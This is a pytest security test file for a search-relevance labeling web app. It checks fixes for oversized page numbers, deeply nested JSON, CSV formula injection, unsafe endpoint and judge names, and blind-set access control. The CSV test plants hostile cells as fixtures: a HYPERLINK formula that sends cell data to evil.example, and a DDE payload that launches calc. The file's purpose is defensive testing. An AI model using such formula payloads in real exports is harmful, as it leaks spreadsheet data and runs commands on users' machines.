"""The probe's low findings (issue 28, finding 6), each held: page numbers, JSON depth, CSV
exports, endpoint and judge names, and blind-set aggregates.

Each test attaches a `low-finding` property; tests/conftest.py prints them as one line of the
security section.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from flask import Flask
from flask.testing import FlaskClient

from ndcg_labeler.extensions import db
from ndcg_labeler.models import Query, TestSet, User
from ndcg_labeler.services import ServiceError, accounts, endpoints, judges
from ndcg_labeler.services import runs as run_service
from tests.factory import PASSWORD, build, judge, trec
from tests.security.world import World, make_world

# ?page= values a visitor may type; before the fix the two past 2**63 answered 500. Those that
# are no page number are a 400 that says so (tests/web/test_paging.py), the others past the end.
BAD_PAGES = ("-5", "0", "abc", "1e3")
PAGES = (str(2**63), str(10**20))
# Spreadsheets run a cell that starts with one of these (formats.safe_cell's rule).
FORMULA = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[-+]?\d+(\.\d*)?([eE][-+]?\d+)?")


@pytest.fixture
def world(app: Flask) -> World:
    """Sets A, B and blind C with runs, people and tokens (tests/security/world.py)."""
    return make_world(app)


def _login(app: Flask, username: str) -> FlaskClient:
    client = app.test_client()
    response = client.post("/login", data={"username": username, "password": PASSWORD})
    assert response.status_code == 302, username
    return client


def _finding(request: pytest.FixtureRequest, name: str) -> None:
    request.node.user_properties.append(("low-finding", name))


def _list_pages(world: World) -> list[str]:
    """The six listings the probe broke with ?page=2**63."""
    a = world.sets["A"]
    return [
        f"/test-sets/{a.test_set_id}/queries",
        f"/test-sets/{a.test_set_id}/chunks",
        f"/test-sets/{a.test_set_id}/review",
        f"/test-sets/{a.test_set_id}/judges/{world.judge_id}",
        "/jobs/",
        "/audit/",
    ]


def test_page_numbers_past_any_listing_show_the_last_page(
    world: World, request: pytest.FixtureRequest
) -> None:
    client = _login(world.app, "admin")
    pages = _list_pages(world)
    for url in pages:
        first = client.get(url)
        assert first.status_code == 200, url
        for value in PAGES:
            response = client.get(f"{url}?page={value}")
            assert response.status_code == 200, (url, value)
        for value in BAD_PAGES:
            assert client.get(f"{url}?page={value}").status_code == 400, (url, value)
    values = len(PAGES) + len(BAD_PAGES)
    _finding(request, f"page numbers ({len(pages)} listings × {values} values, no 500)")


def _gate(client: FlaskClient, token: str, set_id: int, body: str) -> object:
    return client.post(
        f"/api/testsets/{set_id}/gate",
        data=body,
        content_type="application/json",
        headers={"Authorization": f"Bearer {token}"},
    )


@pytest.mark.parametrize("depth", [65, 100_000])
def test_deeply_nested_json_is_a_400_that_says_why(
    world: World, depth: int, request: pytest.FixtureRequest
) -> None:
    client = world.app.test_client()
    body = '{"baseline": ' + "[" * depth + "]" * depth + "}"
    response = _gate(client, world.tokens["admin"], world.sets["A"].test_set_id, body)
    assert response.status_code == 400
    assert "nests deeper than 64 levels" in response.get_json()["detail"]
    _finding(request, "JSON depth (65 and 100,000 levels: 400)")


def test_json_within_the_depth_and_brackets_in_strings_still_parse(world: World) -> None:
    client = world.app.test_client()
    # 200 brackets inside a string are text, not nesting: the gate reads the body and answers
    # about the unknown run instead.
    body = '{"baseline": "' + "[" * 200 + '", "candidate": "two"}'
    response = _gate(client, world.tokens["admin"], world.sets["A"].test_set_id, body)
    assert response.status_code == 404, response.get_data(as_text=True)
    malformed = _gate(client, world.tokens["admin"], world.sets["A"].test_set_id, "{nope")
    assert malformed.status_code == 400
    assert "not valid JSON" in malformed.get_json()["detail"]


def _hostile_set(app: Flask) -> tuple[int, list[int]]:
    """A set whose qids, docids, query text, run names and note all start like formulas."""
    built = build(app, "=Hostile", pool={"=q1": ["@d1", "+d2"], "-q2": ["=d3"]})
    with app.app_context():
        for query in db.session.query(Query).filter_by(test_set_id=built.test_set_id):
            # One text each: queries sharing a text are one query in Quepid's shapes, and a
            # snapshot of a run ranking them differently is refused (nothing to defuse then).
            query.text = f'=HYPERLINK("http://evil.example/?{query.qid}"&A1, "click")'
        db.session.commit()
        test_set = db.session.get_one(TestSet, built.test_set_id)
        run_ids = [
            run_service.upload_run(
                test_set, io.BytesIO(trec({"=q1": order, "-q2": ["=d3"]})), "r.trec", name, None
            ).id
            for name, order in (("=cmd|' /C calc'!A0", ["@d1", "+d2"]), ("@two", ["+d2", "@d1"]))
        ]
    judge(app, built.test_set_id, "=q1", "@d1", "admin", grade=2, note="=1+1")
    return built.test_set_id, run_ids


def _csv_urls(app: Flask, set_id: int, run_id: int) -> list[str]:
    """Every route of the URL map that answers CSV, filled for the hostile set."""
    with app.app_context():
        query_id = db.session.query(Query.id).filter_by(test_set_id=set_id, qid="=q1").scalar()
    values = {"test_set_id": set_id, "run_id": run_id, "query_id": query_id, "fmt": "csv"}
    urls = []
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or not (rule.rule.endswith(".csv") or "fmt" in rule.arguments):
            continue
        path = rule.rule
        for name in rule.arguments:
            path = re.sub(rf"<(?:[a-z]+:)?{name}>", str(values[name]), path)
        urls.append(path)
    return sorted(urls)


def test_every_csv_export_defuses_formulas(world: World, request: pytest.FixtureRequest) -> None:
    app = world.app
    set_id, run_ids = _hostile_set(app)
    client = _login(app, "admin")
    urls = _csv_urls(app, set_id, run_ids[0])
    # The exports of the dashboard, the drill-down, the comparison, the team (People and the
    # agreement's two tables) and the audit, and the peers' shapes: a Quepid case snapshot
    # and Quepid judgments.
    assert len(urls) == 11, urls
    compare = "?" + "&".join(f"run={run_id}" for run_id in run_ids)
    dangerous = []
    cells = 0
    for url in urls:
        response = client.get(url + (compare if url.endswith("compare.csv") else ""))
        assert response.status_code == 200, url
        assert response.mimetype == "text/csv", url
        for row in csv.reader(io.StringIO(response.get_data(as_text=True))):
            for cell in row:
                cells += 1
                if cell.startswith(FORMULA) and not NUMBER.fullmatch(cell):
                    dangerous.append(f"{url}: {cell!r}")
    assert not dangerous, "\n".join(dangerous)
    _finding(request, f"CSV exports ({len(urls)} routes, {cells} cells, none runs)")


URL = "http://127.0.0.1:9/?q={query}"  # nothing listens: the tests never call it
REFUSED_NAMES = ("a/b", "../x", "x?y", "x#y", "100%", "a:b", ".hidden", "-x", "  ", "é")
ALLOWED = r"A–Z and a–z \(no accents\), digits 0–9, spaces"


def test_endpoint_and_judge_names_keep_to_url_characters(
    world: World, request: pytest.FixtureRequest
) -> None:
    app = world.app
    a = world.sets["A"]
    with app.app_context():
        test_set = db.session.get_one(TestSet, a.test_set_id)
        for name in REFUSED_NAMES:
            with pytest.raises(ServiceError, match=ALLOWED):
                endpoints.add_endpoint(test_set, name, URL, preset_name="list")
            with pytest.raises(ServiceError, match=ALLOWED):
                judges.add_judge(name, "http://127.0.0.1:9/v1", "m")
        kept = endpoints.add_endpoint(test_set, " BM25  title v1.2_x-y ", URL, preset_name="list")
        assert kept.name == "BM25 title v1.2_x-y"
        assert judges.add_judge("gpt-4o mini.2", "http://127.0.0.1:9/v1", "m").name
    client = _login(app, "admin")
    # The accepted name is reachable at its own address; the refused one is said why, on the form.
    assert (
        client.get(f"/test-sets/{a.test_set_id}/endpoints/BM25 title v1.2_x-y").status_code == 200
    )
    form = {"name": "a/b", "url": URL, "method": "GET"}
    form |= {"preset": "list"}
    page = client.post(f"/test-sets/{a.test_set_id}/endpoints/", data=form)
    assert page.status_code == 200
    assert "an endpoint name must be" in page.get_data(as_text=True)
    added = app.test_cli_runner().invoke(
        args=["judges", "add", "x/y", "--base-url", "http://127.0.0.1:9/v1", "--model", "m"]
    )
    assert added.exit_code != 0 and "a judge name must be" in added.output
    _finding(request, f"endpoint and judge names ({len(REFUSED_NAMES)} refused by the service)")


def test_blind_set_aggregates_are_hidden_from_its_annotators(
    world: World, request: pytest.FixtureRequest
) -> None:
    app = world.app
    c, b = world.sets["C"], world.sets["B"]
    figures = (
        "/test-sets/{s}/agreement",
        "/test-sets/{s}/agreement.json",
        "/test-sets/{s}/dashboard/runs/{r}",
        "/test-sets/{s}/dashboard/runs/{r}/_table",
        "/test-sets/{s}/dashboard/export/runs/{r}/queries.csv",
        "/test-sets/{s}/dashboard/export/runs/{r}/queries.json",
        "/test-sets/{s}/dashboard/export/runs/{r}/trec_eval.txt",
    )
    blind, member, admin = _login(app, "blindie"), _login(app, "bmember"), _login(app, "admin")
    for url in figures:
        assert blind.get(url.format(s=c.test_set_id, r=c.run_id)).status_code == 403, url
        assert admin.get(url.format(s=c.test_set_id, r=c.run_id)).status_code == 200, url
        assert member.get(url.format(s=b.test_set_id, r=b.run_id)).status_code == 200, url
    # The pages the blind annotator may open do not lead there.
    overview = blind.get(f"/test-sets/{c.test_set_id}/dashboard/").get_data(as_text=True)
    assert f"/dashboard/runs/{c.run_id}" not in overview
    assert f"/test-sets/{c.test_set_id}/agreement" not in overview
    with app.app_context():
        token = accounts.create_token(db.session.get_one(User, world.users["blind-annotator"]))
    api = app.test_client()
    headers = {"Authorization": f"Bearer {token}"}
    scores = f"/api/testsets/{c.test_set_id}/runs/{c.run_id}/scores"
    assert api.get(scores, headers=headers).status_code == 403
    admin_headers = {"Authorization": f"Bearer {world.tokens['admin']}"}
    assert api.get(scores, headers=admin_headers).status_code == 200
    _finding(request, f"blind-set aggregates ({len(figures) + 1} pages, exports and API: 403)")
